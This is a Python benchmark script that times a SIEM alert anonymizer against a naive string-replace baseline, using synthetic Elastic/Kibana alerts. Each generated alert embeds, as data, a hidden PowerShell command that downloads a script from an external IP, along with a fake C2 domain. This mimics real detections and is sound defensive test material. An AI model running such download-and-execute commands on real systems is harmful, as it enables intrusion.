"""Anonymization throughput: alerts/s through `Anonymizer.anonymize_document` on one core.

Generates realistic alerts (~150 ECS fields, 24 of them anonymized by the default policy, host
names, users and IPs drawn from pools so values repeat across alerts and inside `message`,
`process.command_line` and `kibana.alert.reason`), then measures in the same run:

1. Vigil's anonymizer on a warm conversation (every pool value already known from 2,000 earlier
   alerts), default detectors (secrets).
2. The same with every detector on.
3. NAIVE baseline: the same policy, placeholders and flattening, but free text done with a
   `str.replace` loop over every known value (longest first) for every string: what one writes
   first, without token boundaries.
4. Added latency of a chat turn with 100 alerts attached: a new `Anonymizer` from the stored map
   (empty: first turn; warm: the map of an earlier turn), anonymize 100 fresh alerts, render
   them as Kibana's CONTEXT block (`field,value` lines).

Every timed pass gets alerts its anonymizer has never seen (the engine remembers the results of
strings it has seen while no value is added: a pass over the same alerts again would measure
that memory, not the work). Rates are alerts per CPU second of this process
(`time.process_time`), so other processes on a shared machine do not count; wall-clock rates are
printed too. The benchmark's own alerts are moved out of the garbage collector's way
(`gc.freeze`) once generated.

Target: 20,000 alerts/s for (1).

Usage:  .venv/bin/python bench/anonymize.py [--alerts N] [--passes P] [--seed S]
"""

from __future__ import annotations

import argparse
import gc
import json
import os
import random
import sys
import time
import uuid
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "src"))

from _support import machine_description
from rich.console import Console
from rich.table import Table

from vigil.anonymization import ALL_DETECTORS, Anonymizer, DetectorSet, FieldPolicy

console = Console(width=None if sys.stdout.isatty() else 150)
TARGET = 20_000


def render_data(data: Mapping[str, Any]) -> str:
    """Kibana's CONTEXT block lines (`field,value`, lists joined with commas), as chat renders them."""
    return "\n".join(
        f"{field},{','.join(v if isinstance(v, str) else json.dumps(v) for v in values)}"
        for field, values in sorted(data.items())
    )


class Pools:
    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.hosts = [f"{rng.choice(['web', 'db', 'app', 'dc', 'wks'])}-{i}.corp.example.com" for i in range(200)]
        self.short_hosts = [h.split(".")[0] for h in self.hosts]
        self.users = [
            f"{rng.choice(['j', 'm', 'a', 's'])}{rng.choice(['smith', 'lee', 'diaz', 'khan'])}{i}" for i in range(300)
        ]
        self.ips = [f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}" for _ in range(400)]
        self.ext_ips = [
            f"{rng.randrange(11, 223)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
            for _ in range(200)
        ]
        self.macs = [":".join(f"{rng.randrange(256):02x}" for _ in range(6)) for _ in range(200)]
        self.accounts = [str(rng.randrange(10**11, 10**12)) for _ in range(20)]


def make_alert(p: Pools) -> dict[str, Any]:
    r = p.rng
    i = r.randrange(len(p.hosts))
    host, short, user, user2 = p.hosts[i], p.short_hosts[i], r.choice(p.users), r.choice(p.users)
    ip, src, dst = p.ips[i % len(p.ips)], r.choice(p.ext_ips), r.choice(p.ips)
    email = f"{user}@corp.example.com"
    cmd = (
        f'powershell.exe -nop -w hidden -c "iwr http://{src}/a.ps1 -OutFile C:\\Users\\{user}\\AppData\\a.ps1; '
        f'Invoke-Command -ComputerName {short}"'
    )
    alert: dict[str, Any] = {
        "@timestamp": "2026-11-24T10:00:00.000Z",
        "_id": uuid.UUID(int=r.getrandbits(128)).hex,
        "message": f"Suspicious PowerShell by {user} on {host} ({ip}) connecting to {src}:443",
        "host": {
            "name": host,
            "hostname": short,
            "ip": [ip, f"fe80::{i:x}"],
            "mac": [p.macs[i]],
            "id": uuid.UUID(int=r.getrandbits(128)).hex,
            "architecture": "x86_64",
            "os": {
                "name": "Windows",
                "version": "10.0",
                "family": "windows",
                "kernel": "10.0.19045",
                "platform": "windows",
                "type": "windows",
                "build": "19045",
            },
            "uptime": r.randrange(10**6),
        },
        "user": {
            "name": user,
            "email": email,
            "id": f"S-1-5-21-4021-{1000 + p.users.index(user)}",
            "domain": "CORP",
            "full_name": f"User {user.title()}",
            "target": {"name": user2},
        },
        "source": {
            "ip": src,
            "port": r.randrange(1024, 65535),
            "user": {"name": user},
            "geo": {"country_iso_code": "NL", "city_name": "Amsterdam"},
            "bytes": r.randrange(10**6),
        },
        "destination": {"ip": dst, "port": 443, "user": {"name": user2}, "bytes": r.randrange(10**6)},
        "client": {"ip": src},
        "server": {"ip": dst},
        "related": {"ip": [ip, src, dst], "user": [user, user2], "hosts": [host, short]},
        "email": {"from": {"address": email}, "to": {"address": [f"{user2}@corp.example.com"]}},
        "cloud": {"account": {"id": r.choice(p.accounts)}, "provider": "aws", "region": "eu-west-1"},
        "process": {
            "name": "powershell.exe",
            "executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "args": cmd.split(" ")[:6],
            "command_line": cmd,
            "pid": r.randrange(100, 60000),
            "entity_id": uuid.UUID(int=r.getrandbits(128)).hex,
            "user": {"name": user},
            "hash": {"sha256": f"{r.getrandbits(256):064x}", "md5": f"{r.getrandbits(128):032x}"},
            "parent": {
                "name": "cmd.exe",
                "executable": "C:\\Windows\\System32\\cmd.exe",
                "pid": r.randrange(100, 60000),
            },
        },
        "file": {
            "name": "a.ps1",
            "path": f"C:\\Users\\{user}\\AppData\\a.ps1",
            "owner": user,
            "hash": {"sha256": f"{r.getrandbits(256):064x}"},
            "size": r.randrange(10**5),
        },
        "event": {
            "category": ["process"],
            "action": "start",
            "module": "endpoint",
            "dataset": "endpoint.events.process",
            "outcome": "success",
            "type": ["start"],
            "code": "4688",
            "kind": "signal",
            "id": uuid.uuid4().hex,
            "ingested": "2026-11-24T10:00:01Z",
            "sequence": r.randrange(10**6),
        },
        "network": {"protocol": "https", "transport": "tcp", "direction": "egress", "bytes": r.randrange(10**6)},
        "dns": {"question": {"name": f"c2-{r.randrange(999)}.badsite.example"}},
        "url": {"full": f"http://{src}/a.ps1", "domain": src, "path": "/a.ps1"},
        "service": {"name": "endpoint"},
        "log": {"level": "warning"},
        "http": {"response": {"status_code": 200}},
        "agent": {
            "id": uuid.uuid4().hex,
            "name": short,
            "type": "endpoint",
            "version": "8.15.0",
            "ephemeral_id": uuid.uuid4().hex,
        },
        "ecs": {"version": "8.11.0"},
        "data_stream": {"type": "logs", "dataset": "endpoint.alerts", "namespace": "default"},
        "elastic": {"agent": {"id": uuid.uuid4().hex}},
        "threat": {
            "framework": "MITRE ATT&CK",
            "tactic": {"id": "TA0002", "name": "Execution"},
            "technique": [{"id": "T1059.001", "name": "PowerShell"}],
        },
    }
    alert["kibana"] = {
        "alert": {
            "rule": {
                "name": "Suspicious PowerShell Download",
                "description": "Detects PowerShell downloading and executing a script.",
                "uuid": uuid.uuid4().hex,
                "rule_id": uuid.uuid4().hex,
                "category": "Custom Query Rule",
                "consumer": "siem",
                "producer": "siem",
                "revision": 3,
                "threat": {"framework": "MITRE ATT&CK", "tactic": {"id": "TA0002"}},
                "parameters": {
                    "index": ["logs-*"],
                    "language": "kuery",
                    "query": "process.name:powershell.exe",
                    "risk_score": 73,
                    "severity": "high",
                    "from": "now-6m",
                    "to": "now",
                    "max_signals": 100,
                    "version": 3,
                },
                "tags": ["Windows", "Execution"],
                "execution": {"uuid": uuid.uuid4().hex},
            },
            "reason": (
                f"process event with process powershell.exe, by {user} on {host} "
                "created high alert Suspicious PowerShell Download."
            ),
            "severity": "high",
            "risk_score": 73,
            "workflow_status": "open",
            "status": "active",
            "uuid": uuid.uuid4().hex,
            "depth": 1,
            "original_time": "2026-11-24T09:59:59Z",
            "ancestors": [{"id": uuid.uuid4().hex, "type": "event", "index": ".ds-logs-endpoint", "depth": 0}],
            "original_event": {
                "action": "start",
                "category": ["process"],
                "kind": "event",
                "module": "endpoint",
                "type": ["start"],
                "dataset": "endpoint.events.process",
                "id": uuid.uuid4().hex,
            },
            "start": "2026-11-24T10:00:02Z",
            "last_detected": "2026-11-24T10:00:02Z",
            "intended_timestamp": "2026-11-24T10:00:02Z",
            "flapping": False,
            "instance": {"id": uuid.uuid4().hex},
            "url": f"https://kibana.corp.example.com/app/security/alerts/redirect/{uuid.uuid4().hex}",
        },
        "space_ids": ["default"],
        "version": "8.15.0",
    }
    alert["winlog"] = {
        "channel": "Security",
        "computer_name": host,
        "event_id": "4688",
        "provider_name": "Microsoft-Windows-Security-Auditing",
        "record_id": r.randrange(10**7),
        "task": "Process Creation",
        "opcode": "Info",
        "keywords": ["Audit Success"],
        "process": {"pid": 4, "thread": {"id": r.randrange(10**4)}},
        "event_data": {
            "SubjectUserName": user,
            "SubjectDomainName": "CORP",
            "NewProcessName": "powershell.exe",
            "TokenElevationType": "%%1936",
            "MandatoryLabel": "S-1-16-12288",
            "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
        },
    }
    alert["observer"] = {"vendor": "Elastic", "product": "Endpoint", "version": "8.15.0", "type": "endpoint"}
    alert["labels"] = {f"label_{k}": f"value-{r.randrange(100)}" for k in range(6)}
    return alert


def count_fields(alert: Mapping[str, Any], prefix: str = "") -> int:
    return sum(count_fields(v, f"{prefix}{k}.") if isinstance(v, Mapping) else 1 for k, v in alert.items())


class NaiveAnonymizer:
    """The baseline: same output, free text done with a `str.replace` loop over all known values."""

    def __init__(self) -> None:
        self.to_placeholder: dict[str, str] = {}
        self._ordered: list[tuple[str, str]] = []

    def _placeholder(self, value: str) -> str:
        p = self.to_placeholder.get(value)
        if p is None:
            p = self.to_placeholder[value] = str(uuid.uuid4())
            self._ordered = sorted(self.to_placeholder.items(), key=lambda kv: len(kv[0]), reverse=True)
        return p

    def anonymize_document(self, document: Mapping[str, Any], policy: FieldPolicy) -> dict[str, list[Any]]:
        out: dict[str, list[Any]] = {}
        stack: list[tuple[str, Any]] = list(document.items())
        flat: list[tuple[str, Any]] = []
        while stack:
            key, value = stack.pop()
            if isinstance(value, Mapping):
                stack.extend((f"{key}.{k}", v) for k, v in value.items())
            elif isinstance(value, list):
                stack.extend((key, v) for v in value)
            else:
                flat.append((key, value))
        for field, value in flat:
            if not policy.is_allowed(field):
                continue
            if policy.is_anonymized(field):
                out.setdefault(field, []).append(self._placeholder(str(value)))
                continue
            if isinstance(value, str):
                for original, placeholder in self._ordered:
                    if original in value:
                        value = value.replace(original, placeholder)
            out.setdefault(field, []).append(value)
        return out


@dataclass
class Rate:
    """Alerts per second of the best pass, by CPU time and by wall clock."""

    cpu: float
    wall: float


def rate(run: Callable[[Mapping[str, Any]], object], passes: list[list[dict[str, Any]]]) -> Rate:
    """Each pass over its own alerts; the fastest pass counts (slower ones met interference)."""
    best_cpu = best_wall = float("inf")
    count = len(passes[0])
    for alerts in passes:
        gc.collect()
        cpu, wall = time.process_time(), time.perf_counter()
        for alert in alerts:
            run(alert)
        best_cpu = min(best_cpu, time.process_time() - cpu)
        best_wall = min(best_wall, time.perf_counter() - wall)
    return Rate(count / best_cpu, count / best_wall)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--alerts", type=int, default=5_000, help="alerts per timed pass")
    parser.add_argument("--passes", type=int, default=3, help="timed passes, each over new alerts")
    parser.add_argument("--seed", type=int, default=7)
    args = parser.parse_args()

    console.print(f"machine: {machine_description()}; load average: {', '.join(map(str, os.getloadavg()))}")
    pools = Pools(random.Random(args.seed))
    warm_up = [make_alert(pools) for _ in range(2_000)]
    passes = [[make_alert(pools) for _ in range(args.alerts)] for _ in range(args.passes)]
    fresh = [make_alert(Pools(random.Random(args.seed + 1))) for _ in range(100)]
    gc.freeze()
    policy = FieldPolicy.default()
    sample = warm_up[0]
    out = Anonymizer().anonymize_document(sample, policy)
    console.print(
        f"alerts: {args.passes} passes x {args.alerts:,} (+2,000 to warm up), fields per alert: "
        f"{count_fields(sample)}, allowed: {len(out)}, anonymized: {sum(policy.is_anonymized(f) for f in out)}"
    )

    # Warm conversations: every pool value seen once.
    vigil = Anonymizer()
    vigil_all = Anonymizer(detectors=DetectorSet(ALL_DETECTORS))
    naive = NaiveAnonymizer()
    vigil.anonymize_documents(warm_up, policy)
    vigil_all.anonymize_documents(warm_up, policy)
    for alert in warm_up:
        naive.anonymize_document(alert, policy)
    known = len(vigil.replacements)

    r_vigil = rate(lambda a: vigil.anonymize_document(a, policy), passes)
    r_all = rate(lambda a: vigil_all.anonymize_document(a, policy), passes)
    r_naive = rate(lambda a: naive.anonymize_document(a, policy), [p[: max(50, len(p) // 20)] for p in passes[:1]])

    table = Table(title=f"anonymize_document, one core ({known:,} known values)")
    for column in ("variant", "alerts/s (CPU)", "µs/alert", "vs naive", "vs target 20k", "alerts/s (wall)"):
        table.add_column(column, justify="right" if column != "variant" else "left")
    for name, value in (
        ("vigil (detectors: secret)", r_vigil),
        ("vigil (all detectors)", r_all),
        ("naive str.replace loop", r_naive),
    ):
        table.add_row(
            name,
            f"{value.cpu:,.0f}",
            f"{1e6 / value.cpu:,.1f}",
            f"{value.cpu / r_naive.cpu:,.1f}x",
            f"{value.cpu / TARGET:.2f}x",
            f"{value.wall:,.0f}",
        )
    console.print(table)

    # A chat turn with 100 alerts attached: a new anonymizer each time, so nothing is remembered.
    turn = Table(title="added latency of one chat turn with 100 alerts (anonymize + render CONTEXT), CPU time")
    for column in ("stored map", "entries", "ms (best of 5)", "ms (median of 5)"):
        turn.add_column(column, justify="right" if column != "stored map" else "left")
    for label, stored in (("empty (first turn)", {}), ("warm (earlier turns)", vigil.replacements)):
        for mode in ("anonymize_documents (batch)", "anonymize_document x100"):
            times = []
            for _ in range(5):
                gc.collect()
                start = time.process_time()
                anonymizer = Anonymizer(stored)
                if mode.startswith("anonymize_documents"):
                    outs = anonymizer.anonymize_documents(fresh, policy)
                else:
                    outs = [anonymizer.anonymize_document(a, policy) for a in fresh]
                rendered = "\n".join(render_data(o) for o in outs)
                times.append((time.process_time() - start) * 1e3)
            assert rendered
            times.sort()
            turn.add_row(f"{label}, {mode}", f"{len(stored):,}", f"{times[0]:.1f}", f"{times[2]:.1f}")
    console.print(turn)


if __name__ == "__main__":
    main()
